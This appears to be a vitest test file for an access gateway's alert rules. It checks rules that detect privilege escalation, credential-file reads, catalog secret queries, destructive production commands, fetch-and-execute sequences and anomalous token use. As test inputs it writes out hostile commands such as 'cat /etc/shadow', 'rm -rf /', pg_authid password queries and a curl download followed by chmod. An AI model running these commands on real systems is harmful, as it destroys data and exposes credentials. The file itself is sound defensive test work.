import { beforeAll, describe, expect, it } from 'vitest';
import { EventCodec } from '../../services/core/events/codec.js';
import { alertsOf } from '../testing/facts.js';
import { FixtureRecorder, type ScriptedSession, type StartOptions } from '../testing/fixtures.js';
import { MemoryRegistry } from '../testing/memory-registry.js';
import type { CompiledRule } from './engine.js';
import { loadRules } from './load.js';

const MONDAY_10H = Date.UTC(2026, 0, 5, 10, 0);
let codec: EventCodec;
let rules: CompiledRule[];

beforeAll(async () => {
  codec = await EventCodec.create(new MemoryRegistry());
  rules = loadRules();
});

/** Rule ids raised by a scripted recording (one or more sessions). */
async function fired(script: (rec: FixtureRecorder) => void, startMs = MONDAY_10H): Promise<string[]> {
  const rec = await FixtureRecorder.create(startMs, codec);
  script(rec);
  return alertsOf(codec, rec.records, rules).map((a) => a.ruleId);
}

function one(protocol: 'POSTGRES' | 'SSH' | 'KUBERNETES', o: StartOptions, body: (s: ScriptedSession) => void) {
  return (rec: FixtureRecorder) => {
    const s = rec.start('s1', protocol, o);
    body(s);
    s.end();
  };
}

const pg = (sql: string, o: StartOptions = {}, script = {}) => one('POSTGRES', o, (s) => s.query(sql, script));
const ssh = (cmd: string, o: StartOptions = {}) => one('SSH', o, (s) => s.sshExec(0, cmd));
const k8s = (method: string, path: string, o: StartOptions = {}) => one('KUBERNETES', o, (s) => s.k8s(1, method, path, 200));

describe('built-in rules fire on what they describe and stay quiet otherwise', () => {
  it('tg.db.mass-sensitive-read', async () => {
    const id = 'tg.db.mass-sensitive-read';
    expect(await fired(pg('SELECT email FROM customers', {}, { tag: 'SELECT 5000' }))).toContain(id);
    expect(await fired(pg('SELECT a FROM t', {}, { tag: 'SELECT 5000', maskedInline: 'email', rows: [['x']] }))).toContain(id);
    expect(await fired(pg('SELECT id FROM orders', {}, { tag: 'SELECT 5000' }))).not.toContain(id);
    expect(await fired(pg('SELECT email FROM customers', {}, { tag: 'SELECT 999' }))).not.toContain(id);
  });

  it('tg.db.privilege-escalation', async () => {
    const id = 'tg.db.privilege-escalation';
    expect(await fired(pg('ALTER ROLE bob WITH SUPERUSER', {}, { tag: 'ALTER ROLE' }))).toContain(id);
    expect(await fired(pg('GRANT admin TO bob', {}, { tag: 'GRANT ROLE' }))).toContain(id);
    expect(await fired(pg('ALTER TABLE t ADD COLUMN c int', {}, { tag: 'ALTER TABLE' }))).not.toContain(id);
  });

  it('tg.db.catalog-secrets, also when the gateway blocked it', async () => {
    const id = 'tg.db.catalog-secrets';
    expect(await fired(pg('SELECT rolname, rolpassword FROM pg_authid'))).toContain(id);
    expect(await fired(pg('select * from PG_SHADOW', {}, { block: 'no-catalog-secrets' }))).toContain(id);
    expect(await fired(pg('SELECT * FROM pg_tables'))).not.toContain(id);
  });

  it('tg.db.destructive-production only on prod connections and only without WHERE', async () => {
    const id = 'tg.db.destructive-production';
    expect(await fired(pg('DROP TABLE users', { connection: 'prod-db' }, { tag: 'DROP TABLE' }))).toContain(id);
    expect(await fired(pg('DELETE FROM users', { connection: 'prod-db' }, { tag: 'DELETE 10' }))).toContain(id);
    expect(await fired(pg('UPDATE users SET admin = true', { connection: 'prod-db' }, { tag: 'UPDATE 10' }))).toContain(id);
    expect(await fired(pg('DELETE FROM users WHERE id = 1', { connection: 'prod-db' }, { tag: 'DELETE 1' }))).not.toContain(id);
    expect(await fired(pg('DROP TABLE users', { connection: 'staging-db' }, { tag: 'DROP TABLE' }))).not.toContain(id);
  });

  it('tg.ssh.privilege-escalation', async () => {
    const id = 'tg.ssh.privilege-escalation';
    expect(await fired(ssh('sudo -i'))).toContain(id);
    expect(await fired(ssh('chmod u+s /tmp/x'))).toContain(id);
    expect(await fired(ssh('echo sudoku'))).not.toContain(id);
  });

  it('tg.ssh.credential-files, in exec and in a typed shell line', async () => {
    const id = 'tg.ssh.credential-files';
    expect(await fired(ssh('cat /etc/shadow'))).toContain(id);
    expect(await fired(one('SSH', {}, (s) => { s.sshShell(1); s.type(1, 'less ~/.aws/credentials\r'); }))).toContain(id);
    expect(await fired(ssh('cat /etc/hosts'))).not.toContain(id);
  });

  it('tg.ssh.destructive-production', async () => {
    const id = 'tg.ssh.destructive-production';
    expect(await fired(ssh('rm -rf /', { connection: 'prod-host' }))).toContain(id);
    expect(await fired(ssh('rm -rf /', { connection: 'build-host' }))).not.toContain(id);
    expect(await fired(ssh('rm -rf ./build', { connection: 'prod-host' }))).not.toContain(id);
  });

  it('tg.ssh.fetch-and-execute needs the download first, in the same session', async () => {
    const id = 'tg.ssh.fetch-and-execute';
    expect(await fired(one('SSH', {}, (s) => { s.sshExec(0, 'curl -o x.sh https://example.com/x.sh'); s.sshExec(1, 'chmod +x x.sh'); }))).toContain(id);
    expect(await fired(one('SSH', {}, (s) => { s.sshExec(1, 'chmod +x x.sh'); s.sshExec(0, 'curl -o x.sh https://example.com/x.sh'); }))).not.toContain(id);
    expect(await fired((rec) => {
      rec.start('a', 'SSH').sshExec(0, 'wget https://example.com/x.sh');
      rec.start('b', 'SSH').sshExec(0, 'chmod +x x.sh');
    })).not.toContain(id);
  });

  it('tg.k8s.secrets-read, tg.k8s.privilege-escalation, tg.k8s.destructive-production', async () => {
    expect(await fired(k8s('GET', '/api/v1/namespaces/default/secrets'))).toContain('tg.k8s.secrets-read');
    expect(await fired(k8s('GET', '/api/v1/namespaces/default/pods'))).not.toContain('tg.k8s.secrets-read');
    expect(await fired(k8s('POST', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings'))).toContain('tg.k8s.privilege-escalation');
    expect(await fired(k8s('GET', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings'))).not.toContain('tg.k8s.privilege-escalation');
    expect(await fired(k8s('DELETE', '/api/v1/namespaces/payments', { connection: 'prod-k8s' }))).toContain('tg.k8s.destructive-production');
    expect(await fired(k8s('DELETE', '/api/v1/namespaces/payments', { connection: 'staging-k8s' }))).not.toContain('tg.k8s.destructive-production');
  });

  it('tg.session.off-hours by time and by day', async () => {
    const id = 'tg.session.off-hours';
    expect(await fired(ssh('uptime'), Date.UTC(2026, 0, 5, 3, 0))).toContain(id);
    expect(await fired(ssh('uptime'), Date.UTC(2026, 0, 10, 10, 0))).toContain(id); // a Saturday
    expect(await fired(ssh('uptime'), MONDAY_10H)).not.toContain(id);
  });

  it('tg.identity.token-multi-address', async () => {
    const id = 'tg.identity.token-multi-address';
    expect(await fired((rec) => {
      rec.start('a', 'SSH', { jti: 'tok-1', clientAddress: '192.0.2.1' });
      rec.start('b', 'SSH', { jti: 'tok-1', clientAddress: '198.51.100.7' });
    })).toContain(id);
    expect(await fired((rec) => {
      rec.start('a', 'SSH', { jti: 'tok-1', clientAddress: '192.0.2.1' });
      rec.start('b', 'SSH', { jti: 'tok-1', clientAddress: '192.0.2.1' });
      rec.start('c', 'SSH', { jti: 'tok-2', clientAddress: '198.51.100.7' });
    })).not.toContain(id);
    // What gateways record: ip:port. A client's second connection comes from a new source port.
    expect(await fired((rec) => {
      rec.start('a', 'SSH', { jti: 'tok-1', clientAddress: '192.0.2.1:50122' });
      rec.start('b', 'POSTGRES', { jti: 'tok-1', clientAddress: '192.0.2.1:50124' });
      rec.start('c', 'SSH', { jti: 'tok-1', clientAddress: '[2001:db8::1]:50000' });
    })).toContain(id);
    expect(await fired((rec) => {
      rec.start('a', 'SSH', { jti: 'tok-1', clientAddress: '[2001:db8::1]:50000' });
      rec.start('b', 'SSH', { jti: 'tok-1', clientAddress: '[2001:db8::1]:50002' });
    })).not.toContain(id);
  });

  it('tg.identity.new-source-address and tg.identity.first-connection-use need history', async () => {
    expect(await fired((rec) => {
      rec.start('a', 'SSH', { clientAddress: '192.0.2.1', connection: 'c1' });
      rec.start('b', 'SSH', { clientAddress: '192.0.2.1', connection: 'c1' });
    })).toEqual([]);
    const ids = await fired((rec) => {
      rec.start('a', 'SSH', { clientAddress: '192.0.2.1', connection: 'c1' });
      rec.start('b', 'SSH', { clientAddress: '203.0.113.9', connection: 'c2' });
    });
    expect(ids).toContain('tg.identity.new-source-address');
    expect(ids).toContain('tg.identity.first-connection-use');
    expect(await fired((rec) => {
      rec.start('a', 'SSH', { clientAddress: '192.0.2.1:41000', connection: 'c1' });
      rec.start('b', 'SSH', { clientAddress: '192.0.2.1:41002', connection: 'c1' });
    })).toEqual([]);
  });

  it('tg.guardrail.block-burst: five blocks in five minutes, not four, not spread out', async () => {
    const id = 'tg.guardrail.block-burst';
    const blocks = (n: number, gapMs: number) => (rec: FixtureRecorder) => {
      const s = rec.start('s1', 'POSTGRES');
      for (let i = 0; i < n; i++) {
        rec.clock.advanceMs(gapMs);
        s.query('DROP TABLE t', { block: 'no-ddl' });
      }
    };
    expect(await fired(blocks(5, 1000))).toEqual([id]);
    expect(await fired(blocks(4, 1000))).toEqual([]);
    expect(await fired(blocks(5, 120_000))).toEqual([]);
    expect(await fired(blocks(10, 1000))).toEqual([id, id]);
  });

  it('raises the same alert ids for the same frames (deterministic)', async () => {
    const rec = await FixtureRecorder.create(Date.UTC(2026, 0, 5, 3, 0), codec);
    const s = rec.start('s1', 'SSH', { connection: 'prod-host' });
    s.sshExec(0, 'sudo rm -rf /');
    const a = alertsOf(codec, rec.records, rules).map((x) => x.alertId);
    const b = alertsOf(codec, rec.records, rules).map((x) => x.alertId);
    expect(a).toEqual(b);
    expect(a).toContain('tg.ssh.privilege-escalation/s1/1');
    expect(a).toContain('tg.session.off-hours/s1/0');
  });
});
